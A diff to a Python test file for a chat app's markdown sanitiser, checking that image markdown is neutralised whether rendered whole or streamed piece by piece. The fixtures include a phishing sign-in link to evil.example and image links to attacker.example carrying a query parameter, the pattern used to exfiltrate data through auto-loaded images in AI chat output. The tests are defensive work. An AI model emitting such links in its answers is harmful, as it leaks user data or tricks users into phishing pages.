@@ -19,8 +19,9 @@ from chat_core.documents.uploads import FolderUploads, sha256
 from chat_core.errors import ChatError, explain, redacted
 from chat_core.local import runtime
 from chat_core.local.endpoint import EndpointFault
-from chat_core.markdown import safe_markdown, safe_stream
+from chat_core.markdown import safe_markdown
 from chat_core.models.catalog import LOCAL_MODEL
+from chat_core.retrieval.citations import marked
 from chat_core.retrieval.library import Attached, DocumentLocked, Library
 
 PHISHING = "x. **[sign in again](https://evil.example/login)**"
@@ -63,8 +64,11 @@ def test_aws_error_texts_lose_account_ids_arns_and_urls() -> None:
 
 def test_images_become_links_whole_or_streamed_in_any_pieces() -> None:
     text = "See ![chart](https://attacker.example/?d=1) and ![ref][r].\n\n[r]: https://attacker.example/r.png"
-    for shown in (safe_markdown(text), "".join(safe_stream(iter(["See !", "[chart](https://", "x)", "!"])))):
-        assert "![" not in shown
+    assert "![" not in safe_markdown(text)
+    streamed = ""  # the chat page draws a streaming answer whole at each piece (citations.marked)
+    for piece in ["See !", "[chart](https://", "x)", "!"]:
+        streamed += piece
+        assert "![" not in marked(streamed, [], "en")
     assert safe_markdown(text).replace("\u200b", "") == text  # reads the same
 
 
